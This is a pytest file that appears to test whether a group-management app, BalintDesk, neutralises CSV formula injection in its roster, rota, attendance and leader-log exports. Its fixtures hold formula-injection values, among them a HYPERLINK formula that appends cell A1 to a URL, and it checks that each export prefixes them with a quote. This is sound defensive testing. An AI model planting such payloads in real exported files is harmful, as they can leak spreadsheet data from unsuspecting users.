"""Every CSV BalintDesk writes opens in a spreadsheet as text: a name, an email or a note
that starts like a formula (=HYPERLINK(…), +1+1, @SUM(A1), -2+3) gets a quote in front
(OWASP's CSV Injection remedy, see balintdesk/domain/csv_cells.py), in the roster export,
`rota --format csv`, the attendance CSV and the leader log CSV (every csv writer there is).
And the roster import reads the roster export back to the very same names and emails."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest

from balintdesk.domain.csv_cells import FORMULA_STARTS
from balintdesk.domain.group import Frequency, MeetingPattern
from balintdesk.domain.roster import MemberDraft
from balintdesk.store import meetings
from balintdesk.store.leader_log import add_entry
from balintdesk.store.leaders import set_leaders
from balintdesk.store.models import AttendanceStatus, Member
from balintdesk.store.roster import add_member, create_group, find_group

from ..store._meeting_helpers import FIRST, TODAY, make_group, meeting_on, member
from ._cli_helpers import balintdesk, opened

FORMULAS = ['=HYPERLINK("http://example.org/?"&A1,"Open")', "+1+1", "@SUM(A1)", "-2+3"]
QUOTED = "'=already quoted"  # a real name that starts with our quote: kept as it is too
EMAILS = ["=a@example.org", "+b@example.org", "-c@example.org", "d@example.org", "'=e@example.org"]
PERIOD = ("--from", "2026-01-01", "--to", "2026-03-31")


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def no_cell_runs(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert cell[:1] not in FORMULA_STARTS, f"{cell!r} would run as a formula"


@pytest.fixture
def held(tmp_path: Path) -> Path:
    """A held meeting in January led by "=HYPERLINK(…)" with "+1+1" as co-leader, attended
    by "@SUM(A1)" and "-2+3"; a leader-log entry whose note is a formula."""
    folder = tmp_path / "data"
    folder.mkdir()
    with opened(folder):
        group = make_group()
        meetings.ensure_schedule(group.id, today=FIRST)
        people = [
            member(group, name, is_leader=n < 2, email=EMAILS[n])
            for n, name in enumerate([*FORMULAS, QUOTED])
        ]
        row = meeting_on(group, FIRST)
        for person in people:
            meetings.set_attendance(row.id, person.id, AttendanceStatus.PRESENT, today=TODAY)
        meetings.record_meeting(row.id, [], today=TODAY)
        set_leaders(row.id, people[0].id, people[1].id, today=TODAY)
        add_entry(people[0].id, FIRST, "supervision", 60, "=1+1 supervision", today=TODAY)
    return folder


def test_the_roster_export(held: Path, capsysbinary) -> None:
    assert balintdesk(held, "roster", "export", "--group", "Tuesday Balint") == 0
    rows = rows_of(capsysbinary.readouterr().out.decode())
    no_cell_runs(rows)
    names = [row[0] for row in rows[1:]]
    assert sorted(names) == sorted(["'" + name for name in FORMULAS] + ["'" + QUOTED])
    assert {row[3][:2] for row in rows[1:]} == {"'=", "'+", "'-", "d@", "''"}


def test_the_attendance_csv(held: Path, capsysbinary) -> None:
    assert balintdesk(held, "export", "attendance", "--group", "Tuesday Balint", *PERIOD) == 0
    rows = rows_of(capsysbinary.readouterr().out.decode())
    no_cell_runs(rows)
    assert {row[2] for row in rows[1:]} == {"'" + name for name in [*FORMULAS, QUOTED]}


def test_the_leader_log_csv(held: Path, tmp_path: Path) -> None:
    target = tmp_path / "log.csv"
    leader = ["--member", FORMULAS[0], *PERIOD, "--out", str(target)]
    assert balintdesk(held, "export", "leader-log", *leader) == 0
    rows = rows_of(target.read_text(encoding="utf-8-sig"))
    no_cell_runs(rows)
    assert ["'" + FORMULAS[1], "'=1+1 supervision"] == [rows[1][4], rows[2][6]]


def test_the_rota_csv(tmp_path: Path, capsysbinary) -> None:
    today = dt.date.today()
    folder = tmp_path / "data"
    folder.mkdir()
    with opened(folder):
        pattern = MeetingPattern(Frequency.WEEKLY, today.weekday(), start=dt.time(23, 30))
        group = create_group("Thursday Balint", pattern, first_date=today)
        for name in FORMULAS:
            add_member(group.id, MemberDraft(name, joined=today.replace(year=today.year - 1)))
    two = ("--group", "Thursday Balint", "--presenters", "2")
    assert balintdesk(folder, "group", "set", *two) == 0
    assert balintdesk(folder, "rota", "--group", "Thursday Balint", "--format", "csv") == 0
    text = capsysbinary.readouterr().out.decode()
    rows = rows_of(text[text.index("date,presenter") :])
    no_cell_runs(rows)
    cells = [cell for row in rows[1:] for cell in row[1:3]]
    named = {name.removeprefix("'") for cell in cells for name in cell.split("; ")}
    assert named == set(FORMULAS)
    # Two presenters share a cell: "a; =b" is in double quotes, so a spreadsheet that
    # splits on semicolons (European Excel) keeps it one cell, never a formula.
    shared = [row[1] for row in rows[1:] if "; " in row[1]]
    assert shared and all('"' + cell.replace('"', '""') + '"' in text for cell in shared)


def test_the_roster_export_imports_back_to_the_same_names(
    held: Path, tmp_path: Path, capsys
) -> None:
    exported = tmp_path / "roster.csv"
    assert (
        balintdesk(held, "roster", "export", "--group", "Tuesday Balint", "--out", str(exported))
        == 0
    )
    assert balintdesk(held, "roster", "import", str(exported), "--group", "Copy") == 0
    with opened(held):

        def people(name: str) -> list[tuple[str, str]]:
            group = find_group(name)
            query = Member.select().where(Member.group == group.id).order_by(Member.name)
            return [(m.name, m.email) for m in query]

        assert people("Copy") == people("Tuesday Balint")
        assert {name for name, _email in people("Copy")} == {*FORMULAS, QUOTED}
    # And again into the same group: every member is found, nobody is added.
    capsys.readouterr()
    assert balintdesk(held, "roster", "import", str(exported), "--group", "Tuesday Balint") == 0
    assert capsys.readouterr().out.startswith("Added 0, updated 0, unchanged 5 ")
